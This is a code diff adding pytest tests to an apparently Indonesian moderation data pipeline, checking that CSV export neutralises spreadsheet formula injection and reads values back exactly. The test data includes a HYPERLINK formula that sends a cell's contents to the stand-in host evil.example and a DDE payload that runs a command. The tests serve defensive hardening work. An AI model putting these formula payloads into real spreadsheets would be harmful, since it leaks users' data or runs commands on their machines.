@@ -193,3 +193,33 @@ def test_export_masks_a_nip_in_the_bio(store, tmp_path):
     assert "201503" not in text
     bios = {json.loads(line)["account"]["bio"] for line in text.splitlines()}
     assert bios == {"Guru SDN 2, NIP 19860926 ****** * ***, akun pribadi"}
+
+
+@pytest.mark.parametrize(
+    "payload",
+    ['=HYPERLINK("http://evil.example/?q="&A1,"klik") coblos 2', "+62 812 coblos", "@SUM(1+1)", "'=sudah dikutip",
+     "-- pilih nomor 1"],
+)  # fmt: skip
+def test_csv_export_neutralises_formulas_and_reads_them_back_exactly(store, tmp_path, payload):
+    import csv
+
+    make_items(store, 1, text=payload)
+    item = claim_next(store, "ana")
+    decide(store, item["id"], DecisionInput(reviewer="ana", decision="rejected", note="=cmd|' /C calc'!A0"))
+    path = tmp_path / "out.csv"
+    export(store, path, fmt="csv")
+    with path.open(encoding="utf-8", newline="") as fh:
+        rows = list(csv.DictReader(fh))
+    assert rows[0]["text"] == "'" + payload  # a spreadsheet shows it as text
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())
+    back = list(read_records(path))
+    assert back[0]["text"] == payload  # and training reads the post's own text
+    assert back[0]["decisions"][0]["note"] == "=cmd|' /C calc'!A0"  # nested values are JSON text
+
+
+def test_formula_quoting_round_trips_every_string():
+    from pipeline.io.cells import quote_formula, unquote_formula
+
+    for value in ["", "'", "''", "'x", "=1", "'=1", "''=1", "a=1", "-", "\t=x", "biasa"]:
+        assert unquote_formula(quote_formula(value)) == value
+        assert not quote_formula(value).startswith(("=", "+", "-", "@", "\t", "\r"))
